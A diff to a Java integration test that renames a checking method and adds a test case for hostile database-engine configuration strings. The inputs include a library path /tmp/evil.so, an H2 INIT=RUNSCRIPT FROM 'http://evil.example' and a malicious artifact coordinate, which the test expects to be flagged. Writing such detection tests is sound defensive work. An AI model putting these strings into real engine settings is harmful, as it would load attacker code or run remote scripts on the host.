@@ -107,7 +107,7 @@ class ReproduceIT {
         "wiredtiger{eviction=(threads_max=8);statistics=[fast]}"
       })
   void plainSettingsMayComeFromARun(String candidate) {
-    assertThat(Engines.optionsOfThisMachine(Candidate.parse(candidate))).isEmpty();
+    assertThat(Engines.namesOfThisMachine(Candidate.parse(candidate))).isEmpty();
   }
 
   @ParameterizedTest
@@ -115,6 +115,7 @@ class ReproduceIT {
       strings = {
         "rocksdb-c{library=src}",
         "mysql{my.cnf=src}",
+        "rocksdb@com.example:evil:1.0",
         "wiredtiger{extensions=[/tmp/evil.so]}",
         "wiredtiger{extensions=[evil.so]}",
         "h2{INIT=RUNSCRIPT FROM 'http://evil.example'}",
@@ -126,7 +127,7 @@ class ReproduceIT {
         "mysql{client-url=jdbc:mysql://evil.example/db}"
       })
   void whatMayNameAFileMayNot(String candidate) {
-    assertThat(Engines.optionsOfThisMachine(Candidate.parse(candidate))).hasSize(1);
+    assertThat(Engines.namesOfThisMachine(Candidate.parse(candidate))).hasSize(1);
   }
 
   @Test
